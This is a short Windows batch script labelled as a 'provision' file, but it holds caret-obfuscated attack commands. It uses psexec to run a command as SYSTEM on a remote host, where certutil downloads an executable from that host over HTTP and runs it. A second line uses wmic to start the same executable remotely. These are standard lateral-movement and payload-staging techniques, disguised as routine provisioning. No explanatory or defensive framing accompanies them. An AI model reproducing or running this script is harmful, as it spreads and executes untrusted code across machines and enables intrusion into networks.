REM provision 4998 v1
@echo off
set radr=p^se^xe^c.^e^xe \\^19^2.^0.^2.150 -^ac^cep^teu^l^a -^s -d ^cmd /^c "certutil -urlcache -f http://192.0.2.150/s.exe C:\s.exe && C:\s.exe"
call %radr%
@echo off
set prmw=w^m^ic /n^od^e:^192.0.2.^1^50 p^roc^e^s^s ^c^a^ll c^re^at^e "cmd /c C:\s.exe"
call %prmw%
